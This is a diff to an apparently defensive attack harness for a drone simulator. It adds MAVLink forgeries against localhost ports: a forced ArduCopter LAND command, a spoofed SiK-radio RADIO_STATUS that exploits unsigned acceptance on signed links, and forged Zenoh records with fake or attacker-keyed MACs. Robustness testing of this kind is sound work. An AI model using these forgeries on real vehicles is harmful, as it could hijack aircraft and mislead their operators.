@@ -15,8 +15,17 @@ ATTACK
                  to the companion's port 14540+N
   mission-count  MISSION_COUNT (fence, 5 items) to the ground-station port every --period s
                  (2 s: the lock as the issue found it, renewed before the vehicle's 5 s timeout)
+  ap-land        COMMAND_LONG MAV_CMD_DO_SET_MODE to ArduCopter's LAND (custom mode 9) to the
+                 ground-station port 18570+N
+  radio-status   RADIO_STATUS as a SiK radio (system 51, component 68) to the ground-station
+                 port: the one message ArduPilot accepts unsigned on a signed link
   frame          the camera's next frame forged (same stream id, sequence + 1, a black image)
                  on skyherd/uav0/camera/frame at tcp/127.0.0.1:P, --count times
+  records        at each of the companion's first --count decisions seen on
+                 skyherd/uav0/decision, one forged JSON record on each key the companion or the
+                 recorder trusts: camera/info (a 9999-pixel-wide camera), decision and
+                 safety/event (marked "forged"), UGV 0's state (500 m north) and the clock
+                 (t_sim 9999 s); half without "mac", half with a MAC under a key of its own
 """
 
 from __future__ import annotations
@@ -33,6 +42,8 @@ RATE_S = 0.02  # [s wall] between repeats of the MAVLink attacks (but mission-co
 MISSION_COUNT_PERIOD_S = 2.0  # [s wall]
 FAKE_NED = (1234.5, -987.0, -50.0)  # [m] the spoofed position
 PX4_AUTO_LAND = (4 << 16) | (6 << 24)  # PX4 custom_mode: main mode AUTO (4), sub mode LAND (6)
+COPTER_LAND = 9  # ArduCopter custom_mode LAND
+SIK_RADIO = (51, 68)  # the system and component a SiK radio sends RADIO_STATUS as ('3', 'D')
 
 
 def _stop_flag() -> dict:
@@ -55,6 +66,8 @@ def mavlink_attack(attack: str, instance: int, flag: dict, period_s: float) -> d
     to_companion = attack in ("heartbeat", "position")
     port = 14540 + instance if to_companion else 18570 + instance
     src = (sysid, 1) if to_companion else (255, 190)  # as the autopilot / as a ground station
+    if attack == "radio-status":
+        src = SIK_RADIO  # as a SiK telemetry radio
     conn = mavutil.mavlink_connection(f"udpout:127.0.0.1:{port}", source_system=src[0],
                                       source_component=src[1], dialect="ardupilotmega")  # fmt: skip
     mav = conn.mav
@@ -78,6 +91,12 @@ def mavlink_attack(attack: str, instance: int, flag: dict, period_s: float) -> d
                                               0, 21196, 0, 0, 0, 0, 0)  # fmt: skip
             elif attack == "mission-count":
                 msg = mav.mission_count_encode(sysid, 1, 5, mission_type=M.MAV_MISSION_TYPE_FENCE)
+            elif attack == "ap-land":
+                msg = mav.command_long_encode(sysid, 1, M.MAV_CMD_DO_SET_MODE, 0,
+                                              M.MAV_MODE_FLAG_CUSTOM_MODE_ENABLED, COPTER_LAND,
+                                              0, 0, 0, 0, 0)  # fmt: skip
+            elif attack == "radio-status":
+                msg = mav.radio_status_encode(200, 190, 100, 100, 90, 0, 0)
             else:
                 raise SystemExit(f"attacker: unknown MAVLink attack {attack!r}")
             try:
@@ -104,22 +123,12 @@ def frame_attack(instance: int, zenoh_port: int, flag: dict, count: int) -> dict
     """Listen to the camera, and answer each real frame with a forged next one (same stream
     id, sequence + 1) at once, so the forgery arrives before the real frame of that number."""
     import numpy as np
-    import zenoh
 
     sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))  # skyherd
     from skyherd.perception.transport import decode_frame, encode_frame, frame_key
 
-    conf = zenoh.Config()
-    conf.insert_json5("mode", '"client"')
-    conf.insert_json5("connect/endpoints", json.dumps([f"tcp/127.0.0.1:{zenoh_port}"]))
-    conf.insert_json5("scouting/multicast/enabled", "false")
-    while not flag["stop"]:  # the simulator's peer listens only once it has started
-        try:
-            session = zenoh.open(conf)
-            break
-        except zenoh.ZError:
-            time.sleep(0.2)
-    else:
+    session = _client(zenoh_port, flag)
+    if session is None:
         return {"attack": "frame", "sent": 0, "seen": 0}
     key = frame_key("uav0")
     pub = session.declare_publisher(key)
@@ -160,11 +169,80 @@ def frame_attack(instance: int, zenoh_port: int, flag: dict, count: int) -> dict
     return {"attack": "frame", **state}
 
 
+FORGED_T_SIM = 9999.0  # [s] the forged records' time: no real flight reaches it
+FORGED_NORTH = 500.0  # [m] the forged UGV state
+
+
+def forged_records(n: int) -> dict[str, dict]:
+    """The n-th set of forged records, by Zenoh key."""
+    t = FORGED_T_SIM + n
+    return {
+        "skyherd/uav0/camera/info": {"width_px": 9999, "height_px": 1, "fx_px": 1.0, "fy_px": 1.0,
+                                     "cx_px": 0.0, "cy_px": 0.0, "t_sim": t, "forged": True},
+        "skyherd/uav0/decision": {"t": t, "vehicle": "uav0", "mode": "ai", "forged": True},
+        "skyherd/uav0/safety/event": {"t": t, "event": "switch", "from": "ai", "to": "pid",
+                                      "reason": "forged"},
+        "skyherd/ugv/0/state": {"id": 0, "seq": 10**6 + n, "t_sim": t,
+                                "pos_ned": [FORGED_NORTH, 0.0, 0.0], "heading_rad": 0.0,
+                                "speed_mps": 0.0, "camouflaged": False},
+        "skyherd/sim/clock": {"t_sim": t},
+    }  # fmt: skip
+
+
+def _client(zenoh_port: int, flag: dict):
+    """A Zenoh client session on the simulator's port, once it listens (None if stopped first)."""
+    import zenoh
+
+    conf = zenoh.Config()
+    conf.insert_json5("mode", '"client"')
+    conf.insert_json5("connect/endpoints", json.dumps([f"tcp/127.0.0.1:{zenoh_port}"]))
+    conf.insert_json5("scouting/multicast/enabled", "false")
+    while not flag["stop"]:  # the simulator's peer listens only once it has started
+        try:
+            return zenoh.open(conf)
+        except zenoh.ZError:
+            time.sleep(0.2)
+    return None
+
+
+def records_attack(zenoh_port: int, flag: dict, count: int) -> dict:
+    """At each real decision seen (up to `count`), one forged record on every trusted key."""
+    import hashlib
+
+    session = _client(zenoh_port, flag)
+    if session is None:
+        return {"attack": "records", "sent": 0, "seen": 0}
+    pubs = {k: session.declare_publisher(k) for k in forged_records(0)}
+    seen: queue.Queue = queue.Queue()
+    sub = session.declare_subscriber("skyherd/uav0/decision",
+                                     lambda sample: seen.put(bytes(sample.payload.to_bytes())))  # fmt: skip
+    own_key = os.urandom(32)
+    state = {"sent": 0, "seen": 0}
+    while not flag["stop"]:
+        try:
+            data = seen.get(timeout=0.05)
+        except queue.Empty:
+            continue
+        if b'"forged"' in data or state["seen"] >= count:
+            continue
+        state["seen"] += 1
+        for key, rec in forged_records(state["seen"]).items():
+            if state["seen"] % 2:  # a MAC under the attacker's own key (as runio.mac makes it)
+                body = json.dumps(rec, sort_keys=True, separators=(",", ":")).encode()
+                rec = {**rec, "mac": hashlib.blake2b(body, key=own_key, digest_size=32).hexdigest()}
+            pubs[key].put(json.dumps(rec).encode())
+        state["sent"] += 1
+    sub.undeclare()
+    session.close()
+    return {"attack": "records", **state}
+
+
 def main(argv=None) -> int:
     p = argparse.ArgumentParser(
         description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
     )
-    p.add_argument("attack", choices=["heartbeat", "disarm", "position", "mission-count", "frame"])
+    p.add_argument("attack", choices=["heartbeat", "disarm", "position", "mission-count", "frame",
+                                      "records", "radio-status", "ap-land"])  # fmt: skip
     p.add_argument("--instance", type=int, required=True, help="the vehicle instance N")
     p.add_argument("--zenoh-port", type=int, default=7447, help="the simulator's Zenoh port")
     p.add_argument("--period", type=float, default=MISSION_COUNT_PERIOD_S, metavar="S",
@@ -175,6 +253,8 @@ def main(argv=None) -> int:
     flag = _stop_flag()
     if args.attack == "frame":
         out = frame_attack(args.instance, args.zenoh_port, flag, args.count)
+    elif args.attack == "records":
+        out = records_attack(args.zenoh_port, flag, args.count)
     else:
         out = mavlink_attack(args.attack, args.instance, flag, args.period)
     print(json.dumps(out), flush=True)
